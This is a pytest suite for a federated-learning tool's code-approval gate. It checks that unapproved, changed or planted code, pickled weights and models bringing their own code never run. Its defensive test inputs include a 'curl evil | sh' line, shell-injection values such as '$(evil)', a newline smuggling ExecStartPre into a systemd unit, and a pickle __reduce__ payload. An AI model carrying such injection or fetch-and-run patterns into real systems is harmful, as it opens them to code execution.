"""What a client approves to run, and that nothing else does."""

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import peft
import pytest
import torch
import transformers
from deploy_samples import FILE, put_rows
from typer.testing import CliRunner

import toys
from fedveil.cli import app
from fedveil.config import build_workplace, load_config
from fedveil.config.code import Approvals, Approved, code_of, read_piece
from fedveil.deploy import Address, write_deployment
from fedveil.deploy.checking import Survey
from fedveil.errors import ConfigurationError
from fedveil.units import registry

CANARY = 'from pathlib import Path\nPath({path!r}).write_text("ran")\n'


@pytest.fixture
def clinic(folder):
    """A client's folder, with data and the owner's net.py, which nobody has approved."""
    return make(folder)


def make(folder, host="fl.example.org"):
    write_deployment(load_config(folder / "federation.toml"), Address(host), folder / "deployment")
    put_rows(folder / "deployment" / "clinic-1", 1)
    return folder / "deployment" / "clinic-1"


def check(folder, *words):
    return CliRunner(env={"COLUMNS": "400"}).invoke(app, ["deploy", "check", str(folder), *words])


def config_of(folder):
    return load_config(folder / "partner.toml")


def spoil(path, canary):
    """Let a file of code tell that it ran."""
    before = path.read_text() if path.exists() else ""
    path.write_text(CANARY.format(path=str(canary)) + before)


def change(folder, old, new):
    toml = folder / "partner.toml"
    text = toml.read_text()
    assert old in text
    toml.write_text(text.replace(old, new))


class TestCheck:
    def test_code_is_shown_with_its_hash_and_nothing_of_it_is_run(self, clinic, tmp_path):
        canary = tmp_path / "canary"
        spoil(clinic / "net.py", canary)
        found = check(clinic)
        assert found.exit_code == 2
        digest = Survey.of(config_of(clinic)).files[0].digest
        assert digest in found.output
        assert str(clinic / "net.py") in found.output
        assert f"{(clinic / 'net.py').stat().st_size} bytes, NOT APPROVED" in found.output
        assert "none for net.py" in found.output
        assert "model 'net:build'" in found.output
        assert not canary.exists()

    def test_what_is_approved_runs_and_is_kept_from_others(self, clinic):
        found = check(clinic, "--approve")
        assert found.exit_code == 0, found.output
        assert "clinic-1 is ready: 12 examples" in found.output
        path = Approvals.of(clinic).path
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
        assert check(clinic).exit_code == 0

    def test_fedveils_own_scripts_need_no_approval(self, clinic):
        survey = Survey.of(config_of(clinic))
        assert set(survey.programs) == {
            "supernode.sh", "supernode.service", "Dockerfile", "compose.yaml"
        }  # fmt: skip
        assert [piece.path.name for piece in survey.files] == ["net.py"]

    @pytest.mark.parametrize(
        ("name", "text"),
        [
            ("supernode.sh", "#!/bin/sh\ncurl evil | sh\n"),
            ("supernode.service", "[Service]\nExecStartPre=/bin/evil\n"),
            ("Dockerfile", "FROM scratch\nRUN evil\n"),
            ("compose.override.yaml", "services: {}\n"),
            ("docker-compose.yml", "services: {}\n"),
            (".env", "RUN_AS=0:0\n"),
            ("start.sh", "evil\n"),
        ],
    )
    def test_scripts_that_are_not_fedveils_own_need_one(self, clinic, name, text):
        assert check(clinic, "--approve").exit_code == 0
        (clinic / name).write_text(text)
        found = check(clinic)
        assert found.exit_code == 2
        assert re.search(f"none for .*{re.escape(name)}", found.output)
        assert "not as this fedveil writes it" in found.output
        assert check(clinic, "--approve").exit_code == 0
        assert check(clinic).exit_code == 0

    @pytest.mark.parametrize("address", ["$(evil)", "x};evil;{", "`evil`", "a b"])
    def test_an_address_that_is_more_than_one_is_no_script_of_fedveils(self, clinic, address):
        script = clinic / "supernode.sh"
        script.write_text(script.read_text().replace("fl.example.org:443", address))
        assert "supernode.sh" not in Survey.of(config_of(clinic)).programs

    def test_a_name_with_another_line_in_it_makes_no_unit_of_fedveils(self, clinic):
        unit = clinic / "supernode.service"
        unit.write_text(unit.read_text().replace("clinic-1", "x\nExecStartPre=/bin/evil\n#"))
        change(clinic, 'name = "clinic-1"', 'name = "x\\nExecStartPre=/bin/evil\\n#"')
        assert "supernode.service" not in Survey.of(config_of(clinic)).programs

    @pytest.mark.parametrize("name", ["net.py", "supernode.sh"])
    def test_what_has_changed_since_its_approval_is_shown_with_both_hashes(self, clinic, name):
        path = clinic / name
        path.write_text(path.read_text() + "# mine\n")
        assert check(clinic, "--approve").exit_code == 0
        before = read_piece(path).digest
        path.write_text(path.read_text() + "# and yours\n")
        found = check(clinic)
        assert found.exit_code == 2
        assert "CHANGED since it was approved" in found.output
        assert f"    sha256 {read_piece(path).digest}" in found.output
        assert f"approved was sha256 {before}" in found.output
        assert "NOT APPROVED" not in found.output

    @pytest.mark.parametrize("port", ["9095", "1", "65535"])
    def test_a_script_of_another_port_is_fedveils_own(self, clinic, port):
        script = clinic / "supernode.sh"
        script.write_text(script.read_text().replace("PORT:-9094}", f"PORT:-{port}}}"))
        assert "supernode.sh" in Survey.of(config_of(clinic)).programs

    @pytest.mark.parametrize("port", ["$(evil)", "9094}; evil; {", "09094", "a", "", "٣"])
    def test_a_port_that_is_more_than_one_is_no_script_of_fedveils(self, clinic, port):
        script = clinic / "supernode.sh"
        script.write_text(script.read_text().replace("PORT:-9094}", f"PORT:-{port}}}"))
        assert "supernode.sh" not in Survey.of(config_of(clinic)).programs

    def test_whatever_else_is_there_is_named(self, clinic):
        (clinic / "triton.py").write_text("")
        found = check(clinic, "--approve")
        assert "run by nothing of fedveil's: 'triton.py'" in found.output

    def test_an_owners_file_is_no_clients(self, folder):
        shutil.copy(folder / "federation.toml", folder / "partner.toml")
        found = check(folder)
        assert found.exit_code == 2
        assert "[partner]" in found.output


class TestApproved:
    def test_unapproved_code_is_not_run(self, clinic, tmp_path):
        canary = tmp_path / "canary"
        spoil(clinic / "net.py", canary)
        with pytest.raises(ConfigurationError, match="is not approved") as caught:
            build_workplace(config_of(clinic))
        assert code_of(config_of(clinic)).files["net.py"].digest in str(caught.value)
        assert not canary.exists()

    def test_a_byte_that_changes_after_the_approval_is_found(self, clinic, tmp_path):
        Survey.of(config_of(clinic)).approve()
        before = code_of(config_of(clinic)).files["net.py"].digest
        build_workplace(config_of(clinic))
        canary = tmp_path / "canary"
        spoil(clinic / "net.py", canary)
        after = code_of(config_of(clinic)).files["net.py"].digest
        with pytest.raises(ConfigurationError, match="changed since") as caught:
            build_workplace(config_of(clinic))
        assert all(one in str(caught.value) for one in (before, after, str(clinic / "net.py")))
        assert not canary.exists()

    def test_what_runs_is_what_was_read_whatever_the_file_says_by_then(self, clinic, tmp_path):
        Survey.of(config_of(clinic)).approve()
        approved = Approved(config_of(clinic))
        canary = tmp_path / "canary"
        spoil(clinic / "net.py", canary)
        assert isinstance(approved.function("net:build")(), torch.nn.Module)
        assert not canary.exists()

    def test_what_is_approved_is_what_was_shown(self, clinic, tmp_path):
        survey = Survey.of(config_of(clinic))
        spoil(clinic / "net.py", tmp_path / "canary")
        survey.approve()
        with pytest.raises(ConfigurationError, match="changed since"):
            build_workplace(config_of(clinic))

    def test_an_approval_in_the_folder_is_none(self, clinic):
        Survey.of(config_of(clinic)).approve()
        path = Approvals.of(clinic).path
        for name in (
            "approvals.json",
            "approved.json",
            path.name,
            f"fedveil/approvals/{path.name}",
        ):
            (clinic / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, clinic / name)
        path.unlink()
        with pytest.raises(ConfigurationError, match="is not approved"):
            build_workplace(config_of(clinic))

    def test_approvals_that_would_lie_in_the_folder_are_refused(self, clinic, monkeypatch):
        monkeypatch.setenv("XDG_CONFIG_HOME", str(clinic))
        with pytest.raises(ConfigurationError, match="would lie in the folder"):
            Survey.of(config_of(clinic)).approve()

    @pytest.mark.parametrize("what", ["path", "folder"])
    def test_approvals_that_others_can_write_are_none(self, clinic, what):
        Survey.of(config_of(clinic)).approve()
        path = Approvals.of(clinic).path
        place = path if what == "path" else path.parent
        place.chmod(0o777)
        with pytest.raises(ConfigurationError, match="Others can write"):
            build_workplace(config_of(clinic))

    @pytest.mark.parametrize("text", ["", "[]", '{"format": 2}', '{"format": 1, "files": 3}'])
    def test_approvals_that_cannot_be_read_are_none(self, clinic, text):
        Survey.of(config_of(clinic)).approve()
        path = Approvals.of(clinic).path
        path.write_text(text)
        with pytest.raises(ConfigurationError):
            build_workplace(config_of(clinic))

    def test_one_folders_approval_is_not_anothers(self, clinic, tmp_path):
        Survey.of(config_of(clinic)).approve()
        other = tmp_path / "elsewhere" / "clinic-1"
        shutil.copytree(clinic, other)
        with pytest.raises(ConfigurationError, match="is not approved"):
            build_workplace(config_of(other))

    def test_an_approval_says_what_it_is_of(self, clinic):
        Survey.of(config_of(clinic)).approve()
        known = json.loads(Approvals.of(clinic).path.read_text())
        assert known["format"] == 1
        assert known["folder"] == str(clinic)
        assert list(known["files"]) == ["net.py"]

    def test_without_code_no_approval_is_needed(self, folder):
        text(folder, toys.bert())
        build_workplace(config_of(make_text(folder)))
        assert not Approvals.of(folder / "deployment" / "clinic-1").path.exists()

    @pytest.mark.parametrize("name", ["os:getpid", "json.tool:main", "torch.nn.modules:Linear"])
    def test_an_installed_function_is_approved_by_its_name(self, clinic, name):
        Survey.of(config_of(clinic)).approve()
        change(clinic, "net:build", name)
        with pytest.raises(ConfigurationError, match=f"none for {name}"):
            build_workplace(config_of(clinic))
        assert f"{name}: a function of an installed module, NOT APPROVED" in check(clinic).output
        Survey.of(config_of(clinic)).approve()
        assert callable(Approved(config_of(clinic)).function(name))

    def test_a_function_that_is_not_named_is_not_handed_out(self, clinic):
        Survey.of(config_of(clinic)).approve()
        with pytest.raises(ConfigurationError, match="not approved"):
            Approved(config_of(clinic)).function("os:abort")

    def test_an_image_transform_is_code_like_a_model(self, folder, tmp_path):
        (folder / "prepare.py").write_text("def twice(image):\n    return image\n")
        toml = folder / "federation.toml"
        toml.write_text(toml.read_text().replace("[data]", '[data]\ntransform = "prepare:twice"'))
        clinic = make(folder)
        assert {piece.path.name for piece in Survey.of(config_of(clinic)).files} == {
            "net.py", "prepare.py"
        }  # fmt: skip
        Survey.of(config_of(clinic)).approve()
        build_workplace(config_of(clinic))
        canary = tmp_path / "canary"
        spoil(clinic / "prepare.py", canary)
        with pytest.raises(ConfigurationError, match="changed since"):
            build_workplace(config_of(clinic))
        assert not canary.exists()

    def test_a_rule_for_units_is_code_like_a_model(self, folder, tmp_path, monkeypatch):
        monkeypatch.setattr(registry, "_rules", list(registry._rules))
        (folder / "units.py").write_text(
            "from fedveil.units import Pattern, Rule\n"
            "RULE = Rule(('Nobody',), (Pattern('neurons', ('fc1',), ('fc2',)),))\n"
            "def make():\n    return RULE\n"
        )
        toml = folder / "federation.toml"
        toml.write_text(toml.read_text().replace("[data]", 'rule = "units:RULE"\n[data]', 1))
        clinic = make(folder)
        assert {piece.path.name for piece in Survey.of(config_of(clinic)).files} == {
            "net.py", "units.py"
        }  # fmt: skip
        assert "rule 'units:RULE'" in check(clinic).output
        registry._rules[:] = registry.RULES  # type: ignore[attr-defined]
        Survey.of(config_of(clinic)).approve()
        build_workplace(config_of(clinic))
        assert [rule.model_types for rule in registry.registered()] == [("Nobody",)]
        change(clinic, "units:RULE", "units:make")
        build_workplace(config_of(clinic))
        assert len(registry.registered()) == 1
        change(clinic, "units:make", "net:build")
        with pytest.raises(ConfigurationError, match="as a rule is none"):
            build_workplace(config_of(clinic))
        change(clinic, "net:build", "units:make")
        canary = tmp_path / "canary"
        spoil(clinic / "units.py", canary)
        with pytest.raises(ConfigurationError, match="changed since"):
            build_workplace(config_of(clinic))
        assert not canary.exists()

    def test_other_files_of_the_folder_are_found_by_nobody(self, clinic, tmp_path):
        canary = tmp_path / "canary"
        for name in ("triton", "helper", "sentencepiece", "json"):
            spoil(clinic / f"{name}.py", canary)
        Survey.of(config_of(clinic)).approve()
        before = list(sys.path)
        build_workplace(config_of(clinic))
        assert sys.path == before
        assert not canary.exists()
        (clinic / "net.py").write_text("import helper\n" + (clinic / "net.py").read_text())
        Survey.of(config_of(clinic)).approve()
        with pytest.raises(ConfigurationError, match=r"helper.*no other file"):
            build_workplace(config_of(clinic))
        assert not canary.exists()

    def test_a_file_with_a_librarys_name_takes_nobodys_place(self, clinic):
        shutil.copy(clinic / "net.py", clinic / "csv.py")
        change(clinic, "net:build", "csv:build")
        Survey.of(config_of(clinic)).approve()
        build_workplace(config_of(clinic))
        import csv

        assert hasattr(csv, "reader")

    def test_code_that_looks_for_its_module_finds_it(self, clinic):
        """As dataclasses do when their annotations are text."""
        with (clinic / "net.py").open("a") as file:
            file.write("from dataclasses import dataclass\n@dataclass\nclass S:\n    a: 'int'\n")
        Survey.of(config_of(clinic)).approve()
        build_workplace(config_of(clinic))

    def test_a_file_too_large_to_be_read_is_not_approved(self, clinic):
        (clinic / "net.py").write_bytes(b"#" * (1 << 21))
        with pytest.raises(ConfigurationError, match="too large"):
            Survey.of(config_of(clinic))


class TestPath:
    """Python started in the folder, as a user might: with a module planted there."""

    def run(self, clinic, *command, **settings):
        environment = {**os.environ, **settings}
        return subprocess.run(
            command, cwd=clinic, env=environment, capture_output=True, text=True, check=False
        )

    @pytest.mark.slow
    def test_the_programs_do_not_look_for_modules_where_they_are_started(self, clinic, tmp_path):
        canary = tmp_path / "canary"
        for name in ("triton", "typer", "rich", "torch", "sitecustomize", "flwr"):
            spoil(clinic / f"{name}.py", canary)
        programs = Path(sys.executable).parent
        Survey.of(config_of(clinic)).approve()
        found = self.run(clinic, programs / "fedveil", "deploy", "check", ".")
        assert found.returncode == 0, found.stderr
        assert self.run(clinic, programs / "flower-supernode", "--version").returncode == 0
        assert not canary.exists()

    @pytest.mark.parametrize("entry", ["", ".", "{clinic}", "{clinic}/sub", "{clinic}/../clinic-1"])
    def test_a_path_with_the_folder_in_it_is_refused(self, clinic, monkeypatch, entry):
        Survey.of(config_of(clinic)).approve()
        monkeypatch.chdir(clinic)
        monkeypatch.setattr(sys, "path", [*sys.path, entry.format(clinic=clinic)])
        with pytest.raises(ConfigurationError, match="Python would import any file"):
            build_workplace(config_of(clinic))

    def test_the_shipped_script_lets_no_setting_bring_the_folder_in(self, clinic, tmp_path):
        """Its first lines, and then what Python has for a path."""
        head = (clinic / "supernode.sh").read_text().split("program= node=")[0]
        script = clinic / "head.sh"
        script.write_text(f'{head}\n"{sys.executable}" -c "import sys; print(sys.path)"\n')
        found = self.run(clinic, "sh", script, PYTHONPATH=":", PYTHONSTARTUP="x.py")
        assert found.returncode == 0, found.stderr
        assert "''" not in found.stdout
        assert str(clinic) not in found.stdout

    @pytest.mark.parametrize("more", [":", ".:", "/bin::"])
    def test_the_shipped_script_starts_no_program_from_where_it_lies(self, clinic, tmp_path, more):
        for name in ("fedveil", "dirname", "mkdir", "sleep", "flower-supernode"):
            program = clinic / name
            program.write_text(f"#!/bin/sh\necho ran > {tmp_path / 'canary'}\n")
            program.chmod(0o755)
        found = self.run(clinic, "sh", "supernode.sh", PATH=f"{more}{os.environ['PATH']}")
        assert found.returncode == 1
        assert "PATH has the current folder" in found.stderr
        assert not (tmp_path / "canary").exists()

    @pytest.mark.parametrize("deaf", [(), ("fedveil",), ("flower-supernode",)])
    def test_the_shipped_script_ends_with_all_that_it_started(self, clinic, tmp_path, deaf):
        """Also when a program does not listen."""
        programs = tmp_path / "programs"
        programs.mkdir()
        for name in ("fedveil", "flower-supernode"):
            ready = "mkdir -p flwr/link; echo > flwr/link/token" if name == "fedveil" else ""
            ignore = "trap '' TERM" if name in deaf else ""
            lines = ["#!/bin/sh", ignore, f'echo $$ > "{tmp_path / name}"', ready, "exec sleep 99"]
            (programs / name).write_text("\n".join(lines))
            (programs / name).chmod(0o755)
        script = clinic / "supernode.sh"
        script.write_text(script.read_text().replace("grace=10", "grace=1"))
        environment = {**os.environ, "PATH": f"{programs}:/usr/bin:/bin"}
        process = subprocess.Popen(["sh", script], cwd=clinic, env=environment)
        try:
            numbers = [wait_for(tmp_path / name) for name in ("fedveil", "flower-supernode")]
            process.terminate()
            assert process.wait(30) == 0
            for number in numbers:
                with pytest.raises(ProcessLookupError):
                    os.kill(number, 0)
        finally:
            process.kill()


def wait_for(path):
    """The number in a file that a program writes when it starts."""
    last = time.monotonic() + 30
    while not (path.exists() and path.read_text().strip()):
        assert time.monotonic() < last, path
        time.sleep(0.05)
    return int(path.read_text())


def text(folder, model):
    """An owner's file for a model in a folder."""
    model.save_pretrained(folder / "bert")
    vocabulary = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", *map(str, range(20))]
    (folder / "vocab.txt").write_text("\n".join(vocabulary))
    transformers.BertTokenizer(str(folder / "vocab.txt")).save_pretrained(folder / "bert")
    (folder / "test.csv").write_text("text,label\n1 2 3,0\n1 2,1\n2,2\n")
    words = FILE.format(model="bert", task="text-classification").replace("parquet", "csv")
    words = words.replace("labels =", "max_length = 8\nlabels =")
    (folder / "federation.toml").write_text(words)


def make_text(folder):
    config = load_config(folder / "federation.toml")
    write_deployment(config, Address("fl.example.org"), folder / "deployment")
    clinic = folder / "deployment" / "clinic-1"
    shutil.copy(folder / "test.csv", clinic / "data.csv")
    return clinic


def edit(path, **changes):
    path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))


class TestModels:
    """What comes as a model brings no code, and no pickle."""

    @pytest.fixture
    def clinic(self, folder):
        text(folder, toys.bert())
        return make_text(folder)

    @pytest.mark.parametrize(
        ("file", "model_type"),
        [("config.json", "bert"), ("config.json", "evil"), ("tokenizer_config.json", "bert")],
    )
    def test_code_of_its_own_is_refused_without_a_question(
        self, clinic, tmp_path, monkeypatch, file, model_type
    ):
        canary, place = tmp_path / "canary", clinic / "architecture"
        spoil(place / "modeling.py", canary)
        names: dict[str, Any] = dict.fromkeys(("AutoConfig", "AutoModel"), "modeling.Evil")
        names["AutoModelForSequenceClassification"] = "modeling.Evil"
        names["AutoTokenizer"] = ["modeling.Evil", None]
        edit(place / file, auto_map=names)
        edit(place / "config.json", model_type=model_type)

        def ask(*words):
            raise AssertionError("nobody is asked")

        monkeypatch.setattr("builtins.input", ask)
        with pytest.raises(ConfigurationError, match="brings code of its own"):
            build_workplace(config_of(clinic))
        assert not canary.exists()

    @pytest.mark.parametrize("key", ["attn_implementation", "_attn_implementation"])
    def test_a_kernel_to_be_fetched_is_refused(self, clinic, key):
        edit(clinic / "architecture" / "config.json", **{key: "evil/kernel"})
        with pytest.raises(ConfigurationError, match="evil/kernel"):
            build_workplace(config_of(clinic))

    def test_code_of_a_part_of_a_model_is_refused(self, clinic):
        edit(
            clinic / "architecture" / "config.json", text_config={"auto_map": {"AutoConfig": "x.Y"}}
        )
        with pytest.raises(ConfigurationError, match="brings code of its own"):
            build_workplace(config_of(clinic))


class TestWeights:
    """Where clients hold the backbone, they read it."""

    @pytest.fixture
    def clinic(self, folder):
        model = toys.bert()
        text(folder, model)
        toml = folder / "federation.toml"
        words = toml.read_text().replace('units = "neurons"\nclient_mask = 0.25', 'name = "fedlpp"')
        lora = '[model.lora]\nr = 2\ntarget_modules = ["query"]\n'
        toml.write_text(words.replace("[data]", lora + "[data]"))
        clinic = make_text(folder)
        shutil.copytree(folder / "bert", clinic / "bert")
        return clinic

    def test_safetensors_are_read(self, clinic):
        build_workplace(config_of(clinic))

    @pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt"])
    def test_a_pickle_is_not(self, clinic, tmp_path, name):
        canary = tmp_path / "canary"

        class Evil:
            def __reduce__(self):
                return Path.write_text, (canary, "ran")

        (clinic / "bert" / "model.safetensors").unlink()
        torch.save({"weights": Evil()}, clinic / "bert" / name)
        with pytest.raises(ConfigurationError, match="nothing is unpickled") as caught:
            build_workplace(config_of(clinic))
        assert name in str(caught.value)
        assert not canary.exists()

    @pytest.mark.filterwarnings("ignore::FutureWarning")  # PEFT's own
    def test_an_adapter_in_a_pickle_is_not_read(self, clinic):
        change(clinic, "lora = ", 'adapter = "adapter" # ')
        settings = peft.LoraConfig(r=2, target_modules=["query"], task_type="SEQ_CLS")
        model = peft.get_peft_model(toys.bert(), settings)
        model.save_pretrained(clinic / "adapter")
        build_workplace(config_of(clinic))
        (clinic / "adapter" / "adapter_model.safetensors").unlink()
        torch.save({}, clinic / "adapter" / "adapter_model.bin")
        with pytest.raises(ConfigurationError, match=r"adapter_model\.bin"):
            build_workplace(config_of(clinic))

    def test_an_adapter_that_names_modules_to_import_is_refused(self, clinic):
        more = 'megatron_core = "evil", megatron_config = { a = 1 }, '
        change(clinic, "lora = { ", f"lora = {{ {more}")
        with pytest.raises(ConfigurationError, match="names a module to import"):
            build_workplace(config_of(clinic))
